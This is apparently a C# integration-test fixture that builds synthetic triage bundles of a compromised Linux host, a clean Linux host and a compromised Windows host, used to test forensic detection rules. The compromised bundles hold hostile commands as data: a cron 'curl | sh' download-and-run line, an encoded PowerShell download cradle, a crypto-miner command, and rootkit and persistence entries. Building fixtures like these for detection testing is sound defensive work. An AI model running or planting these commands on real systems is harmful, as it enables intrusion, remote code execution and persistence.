using System.Text;

namespace CaseManager.Infrastructure.IntegrationTests.Analysis.Triage;

/// <summary>Prepared bundles: one where every Linux rule fires, one Windows bundle, and a clean host where none does.</summary>
internal static class TriageScenarios
{
    public const string ProcessHeader = "pid\tppid\tuid\tstart_time\tcpu_seconds\tname\texe\tcwd\tcmdline";
    public const string SocketHeader = "protocol\tlocal\tremote\tstate\tinode\tpid";
    public const string FilesHeader = "path\tsha256\tsize\tmtime\tmagic";
    public const string ElfSha = "0f5b1b3c5e8a1d7b6c4a3e2f1d0c9b8a7f6e5d4c3b2a1908f7e6d5c4b3a29180";
    public const string BotSha = "aa5b1b3c5e8a1d7b6c4a3e2f1d0c9b8a7f6e5d4c3b2a1908f7e6d5c4b3a291bb";

    public static readonly DateTimeOffset Collected = new(2026, 11, 30, 12, 0, 0, TimeSpan.Zero);

    private static long Start(int secondsBefore) => Collected.ToUnixTimeSeconds() - secondsBefore;

    private static string Proc(int pid, int ppid, string name, string exe, string cmdline, double cpu = 0.5, int age = 86400, int uid = 0) =>
        FormattableString.Invariant($"{pid}\t{ppid}\t{uid}\t{Start(age)}\t{cpu:0.00}\t{name}\t{exe}\t/\t{cmdline}");

    public static byte[] LinuxCompromised() => new TriageBundleBuilder { CollectedAt = Collected }
        .Tsv("processes.tsv", ProcessHeader,
            Proc(1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
            Proc(2, 0, "kthreadd", "", ""),
            Proc(11275, 1, "[ksoftirqd/7]", "/etc/security/ntps.conf", "[ksoftirqd/7]"),
            Proc(11276, 11275, "[ksoftirqd/7]", "/etc/security/ntps.conf", "[ksoftirqd/7]"),
            Proc(11277, 11275, "[ksoftirqd/7]", "/etc/security/ntps.conf", "[ksoftirqd/7]"),
            Proc(500, 1, "kworker/0:1", "/usr/bin/python3", "python3 -c import os"),
            Proc(600, 1, "sshd", "/usr/sbin/sshd (deleted)", "/usr/sbin/sshd -D"),
            Proc(700, 1, "xmrig", "/opt/x/xmrig", "xmrig -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", cpu: 5000, age: 6000),
            Proc(800, 1, "bot", "/tmp/.x/bot", "bot -s irc.example"))
        .Tsv("maps.tsv", "pid\tpath", "11275\t/etc/security/ntps.conf", "11275\t/usr/lib/x86_64-linux-gnu/libc.so.6")
        .Tsv("sockets.tsv", SocketHeader,
            "tcp\t0100007F:9C40\t076433C6:1A0B\t01\t111\t800",       // 127.0.0.1:40000 -> 198.51.100.7:6667
            "tcp\t0500000A:9C41\t04030201:0D05\t01\t112\t700",       // 10.0.0.5:40001 -> 1.2.3.4:3333
            "tcp\t0500000A:9C42\t0A00710B:01BB\t01\t113\t11275")     // 10.0.0.5:40002 -> 11.113.0.10:443
        .Tsv("executables.tsv", FilesHeader, $"/etc/security/ntps.conf\t{ElfSha}\t1887744\t{Start(3600)}\tELF", $"/tmp/.x/bot\t{BotSha}\t9000\t{Start(3600)}\tELF")
        .Add("files/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n*/5 * * * * root /etc/security/ntps.conf >/dev/null 2>&1\n")
        .Add("files/var/spool/cron/crontabs/root", "@reboot curl -fsSL http://sjb555.3322.org/i.sh | sh\n")
        .Add("files/etc/systemd/system/ntps.service", "[Unit]\nDescription=NTP sync\n[Service]\nExecStart=/etc/security/ntps.conf -d\n[Install]\nWantedBy=multi-user.target\n")
        .Add("files/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")
        .Add("files/etc/rc.local", "#!/bin/sh\n/dev/shm/.x/run &\nexit 0\n")
        .Add("files/home/u/.bashrc", "alias ll='ls -l'\nnohup /var/tmp/.cache/kworker >/dev/null 2>&1 &\n")
        .Add("files/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\nu:x:1000:1000::/home/u:/bin/bash\n")
        .Add("files/root/.ssh/authorized_keys", "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali\n", Collected.AddDays(-1))
        .Add("files/var/log/auth.log", AuthLog("203.0.113.9", 12, success: true) + AuthLog("198.51.100.20", 25, success: false))
        .Add("files/proc/modules", "diamorphine 16384 0 - Live 0xffffffffc0a00000 (OE)\next4 737280 1 - Live 0xffffffffc0100000\nnetfilter_hook 20480 0 - Live 0xffffffffc0b00000 (OE)\n")
        .Add("files/etc/hosts", "127.0.0.1 localhost\n")
        .TarGz();

    public static string AuthLog(string source, int failures, bool success)
    {
        var log = new StringBuilder();
        for (var i = 0; i < failures; i++)
        {
            log.Append(FormattableString.Invariant($"Nov 30 10:{i / 60:00}:{i % 60:00} web01 sshd[{2000 + i}]: Failed password for invalid user admin{i % 3} from {source} port {40000 + i} ssh2\n"));
        }

        if (success)
        {
            log.Append(FormattableString.Invariant($"Nov 30 11:30:00 web01 sshd[3000]: Accepted password for root from {source} port 50000 ssh2\n"));
        }

        return log.ToString();
    }

    public static byte[] LinuxClean() => new TriageBundleBuilder { CollectedAt = Collected }
        .Tsv("processes.tsv", ProcessHeader,
            Proc(1, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init"),
            Proc(2, 0, "kthreadd", "", ""),
            Proc(15, 2, "ksoftirqd/1", "", ""),
            Proc(16, 2, "kworker/1:0-events", "", ""),
            Proc(900, 1, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups", cpu: 12),
            Proc(950, 1, "cron", "/usr/sbin/cron", "/usr/sbin/cron -f"))
        .Tsv("maps.tsv", "pid\tpath", "900\t/usr/sbin/sshd")
        .Tsv("sockets.tsv", SocketHeader, "tcp\t00000000:0016\t00000000:0000\t0A\t10\t900", "tcp\t0500000A:0016\t0900000A:C738\t01\t11\t900")
        .Tsv("executables.tsv", FilesHeader, $"/etc/init.d/ssh\t{ElfSha}\t4000\t{Start(900000)}\tscript")
        .Add("files/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
        .Add("files/etc/systemd/system/sshd.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n")
        .Add("files/etc/init.d/x11-common", "#!/bin/sh\nfn=\"$(mktemp /tmp/testwriteable.XXXXXXXXXX)\" || return 1\nif [ -d \"/tmp/.X11-unix\" ]; then chmod 1777 /tmp/.X11-unix; fi\n")
        .Add("files/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n")
        .Add("files/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI admin@laptop\n", Collected.AddDays(-300))
        .Add("files/var/log/auth.log", AuthLog("10.0.0.9", 3, success: true))
        .Add("files/etc/hosts", "127.0.0.1 localhost\n10.0.0.2 db.internal\n")
        .Add("files/proc/modules", "ext4 737280 1 - Live 0xffffffffc0100000\nvboxdrv 696320 2 vboxnetadp,vboxnetflt, Live 0xffffffffc0c00000 (OE)\nnvidia 56799232 1 nvidia_modeset, Live 0xffffffffc1000000 (POE)\n")
        .TarGz();

    public static string EncodedDownload { get; } = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.66/a.ps1')";

    public static byte[] WindowsCompromised()
    {
        var b64 = Convert.ToBase64String(Encoding.Unicode.GetBytes(EncodedDownload));
        var events = new List<string>();
        for (var i = 0; i < 12; i++)
        {
            events.Add(FormattableString.Invariant($"2026-11-30T09:{i:00}:00Z\t4625\tadministrator\t203.0.113.77\t3"));
        }

        events.Add("2026-11-30T09:30:00Z\t4624\tadministrator\t203.0.113.77\t10");
        events.Add("2026-11-30T09:31:00Z\t4688\tadministrator\t-\t-");
        return new TriageBundleBuilder { Os = "windows", Host = "WS-07", CollectedAt = Collected }
            .Tsv("processes.tsv", ProcessHeader + "\tsignature",
                $"4\t0\tSYSTEM\t{Start(90000)}\t100\tSystem\t\t\t\tValid",
                $"3000\t900\tWS-07\\alice\t{Start(600)}\t2\tpowershell.exe\tC:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\tC:\\\tpowershell.exe -NoP -w hidden -enc {b64}\tValid",
                $"3100\t900\tWS-07\\alice\t{Start(600)}\t2\tsvchost.exe\tC:\\Users\\Public\\svchost.exe\tC:\\\tC:\\Users\\Public\\svchost.exe -k net\tNotSigned")
            .Tsv("sockets.tsv", "protocol\tlocal\tremote\tstate\tpid", "tcp\t10.0.0.5:50000\t203.0.113.50:6667\tESTABLISHED\t3100", "udp\t0.0.0.0:5353\t*:*\tUNCONN\t4")
            .Tsv("persistence.tsv", "kind\tlocation\tcommand\tsignature",
                "run-key\tHKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater\tC:\\Users\\Public\\svchost.exe -k net\tNotSigned",
                "service\tSpooler\tC:\\Windows\\System32\\spoolsv.exe\tValid",
                $"wmi\tCommandLineEventConsumer SCM Event Log Consumer\tpowershell.exe -enc {b64}\tValid")
            .Tsv("accounts.tsv", "name\tuid\tshell\thome\tnote", "Administrator\tS-1-5-21-1-2-3-500\t\tC:\\Users\\Administrator\tadministrators", "alice\tS-1-5-21-1-2-3-1001\t\tC:\\Users\\alice\t")
            .Tsv("events.tsv", "time\tid\tuser\tsource\tlogon_type", [.. events])
            .Zip();
    }
}
